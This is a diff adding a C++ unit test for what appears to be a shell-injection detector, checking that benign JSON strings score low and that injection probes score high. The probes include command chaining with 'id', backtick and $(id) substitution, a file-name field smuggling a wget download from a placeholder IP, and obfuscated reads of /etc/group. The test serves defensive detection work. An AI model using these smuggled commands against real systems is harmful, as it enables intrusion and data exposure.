@@ -55,6 +55,19 @@ TEST(Shell, WindowsShells) {
   EXPECT_LT(points("&copy; 2024 Host &reg; co"), kThreshold);
   EXPECT_GE(points("x & copy c:\\a c:\\b"), kThreshold);
 }
+TEST(Shell, QuotesAndBracketsOfADocumentAreNoShells) {
+  for (const std::string_view text :
+       {R"(["\tar",1])", R"([[["q","[\"cat food & more\"]",null]]])", R"(["sort by price","date of birth"])",
+        R"([{"u":"https://host.example/l?a=[1]&h=A","n":1.5e3}])", R"({"who":["AT&T"],"x":{}})"}) {
+    EXPECT_LT(points(text), kThreshold) << text;
+  }
+  for (const std::string_view text :
+       {R"(["7;id"])", R"({"a":"[;id;]","b":"7;id"})", R"({"file":"a.png && wget http://192.0.2.1/a"})",
+        R"({"a":1};id)", R"({"tac","/etc/group"})", R"(["a"]|id)", R"({"a":"`id`"})", R"([1,$(id),"a"])",
+        R"({"cmd":"c'a't /etc/group;"} ; c'a't /etc/group)"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+}
 TEST(Shell, ShortProbes) {
   for (const std::string_view text :
        {"x;whoami;", "10|id", "$(id)", "-;id", "x&&id", "||id", "x\ncurl http://192.0.2.9/x", ";{ id;}",
